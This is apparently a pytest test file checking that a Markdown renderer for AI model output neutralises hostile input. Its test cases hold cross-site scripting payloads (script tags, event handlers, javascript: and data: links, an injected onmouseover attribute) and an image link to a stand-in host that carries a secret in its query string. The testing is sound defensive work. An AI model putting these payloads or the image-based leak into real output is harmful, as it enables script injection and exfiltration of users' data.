"""Model output rendered as Markdown is inert: no scripts, raw HTML, event handlers, javascript: or relative links."""

import pytest

from workspaces.markdown import render_markdown

REL = 'rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        ("<img src=x onerror=alert(1)>", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
        ('<div onclick="steal()">raw</div>', '<p>&lt;div onclick="steal()"&gt;raw&lt;/div&gt;</p>'),
        ("[x](javascript:alert(1))", "<p>[x](javascript:alert(1))</p>"),
        ("[x](JaVaScRiPt:alert(1))", "<p>[x](JaVaScRiPt:alert(1))</p>"),
        ("[x](vbscript:msgbox)", "<p>[x](vbscript:msgbox)</p>"),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "<p>[x](data:text/html;base64,PHNjcmlwdD4=)</p>"),
        ('<a href="javascript:alert(2)">a</a>', '<p>&lt;a href="javascript:alert(2)"&gt;a&lt;/a&gt;</p>'),
        ("[admin](/admin/)", f"<p><a {REL}>admin</a></p>"),  # relative: would act inside the portal
        ("[other](//evil.example/x)", f"<p><a {REL}>other</a></p>"),
        ("[ok](https://example.com)", f'<p><a href="https://example.com" {REL}>ok</a></p>'),
        ("<https://example.com>", f'<p><a href="https://example.com" {REL}>https://example.com</a></p>'),
        ("[mail](mailto:team@example.com)", f'<p><a href="mailto:team@example.com" {REL}>mail</a></p>'),
        (
            "![t](https://evil.example/t.png?c=secret)",
            f'<p><a href="https://evil.example/t.png?c=secret" {REL}>image: t</a></p>',
        ),
        ("![t](javascript:alert(1))", "<p>![t](javascript:alert(1))</p>"),
        ("<!-- hidden -->", "<p>&lt;!-- hidden --&gt;</p>"),
        (
            '[t](https://a.example "x\\" onmouseover=\\"alert(1)")',
            f'<p><a href="https://a.example" title="x&quot; onmouseover=&quot;alert(1)" {REL}>t</a></p>',
        ),
    ],
)
def test_untrusted_markdown_is_inert(source, html):
    assert render_markdown(source).strip() == html


def test_ordinary_markdown_is_formatted():
    out = render_markdown(
        "# Title\n\n**bold** *it* `code` ~~old~~\n\n```python\nprint('<b>')\n```\n\n- a\n- b\n\n| x | y |\n|--:|---|\n| 1 | 2 |"
    )
    for part in ("<h1>Title</h1>", "<strong>bold</strong>", "<em>it</em>", "<code>code</code>", "<s>old</s>",
                 "<pre><code>print('&lt;b&gt;')\n</code></pre>", "<ul>\n<li>a</li>", "<table>", "<td>1</td>"):  # fmt: skip
        assert part in out, part
    assert "style=" not in out and "class=" not in out
